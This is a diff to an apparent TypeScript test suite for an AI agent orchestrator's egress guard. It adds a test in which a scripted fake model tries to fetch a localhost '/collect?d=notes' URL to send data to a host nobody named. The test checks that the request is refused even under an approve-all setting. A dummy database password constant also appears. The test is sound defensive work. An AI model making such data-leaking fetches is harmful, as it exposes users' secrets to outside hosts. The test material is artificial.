@@ -11,6 +11,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { FakeAnthropicApi, isToolResultTurn, lastUserText, type MessagesBody, type Reply } from '../fakes/anthropic-api';
 import { runCli } from './helpers/cli-process';
+import { startOrchestrator, textOf } from './orchestrator-harness';
 
 const SECRET = 'DB_PASSWORD=hunter2-very-secret';
 
@@ -112,6 +113,31 @@ describe('the egress guard against a hostile page (CLI, real servers)', () => {
     } finally {
       api.setScript(obedientModel);
       rmSync(clean, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('the egress guard in a sub-agent (the orchestrator, real servers)', () => {
+  test('MCP_AGENT_ORCHESTRATOR_APPROVE=all does not send data to a host nobody named: refused, saying why', { timeout: 90_000 }, async () => {
+    const outside = await site('<html><body>thanks</body></html>');
+    const leak = `http://localhost:${outside.port}/collect?d=notes`;
+    const api = new FakeAnthropicApi((body) => (isToolResultTurn(body) ? { text: `Result: ${lastUserText(body).slice(0, 400)}` } : { toolUses: [{ name: 'web__fetch_url', input: { url: leak } }] }));
+    const ws = mkdtempSync(join(tmpdir(), 'egress-orch-'));
+    const home = mkdtempSync(join(tmpdir(), 'egress-orch-home-'));
+    const orch = await startOrchestrator(ws, {
+      env: { ANTHROPIC_API_KEY: 'sk-test', ANTHROPIC_BASE_URL: await api.start(), MCP_AGENT_HOME: home, MCP_AGENT_ORCHESTRATOR_APPROVE: 'all', MCP_AGENT_FETCH_ALLOW: `localhost:${outside.port}` },
+    });
+    try {
+      const result = await orch.call('start_agent', { session_name: 'fetcher', agent_name: 'general', prompt: 'Look something up.' });
+      assert.deepEqual(outside.hits, [], 'nothing reached the outside site');
+      assert.match(textOf(result), /localhost is not a host you named/);
+      assert.match(textOf(result), /APPROVE=all does not give it/);
+    } finally {
+      await orch.close();
+      await api.stop();
+      outside.server.close();
+      rmSync(ws, { recursive: true, force: true });
+      rmSync(home, { recursive: true, force: true });
     }
   });
 });
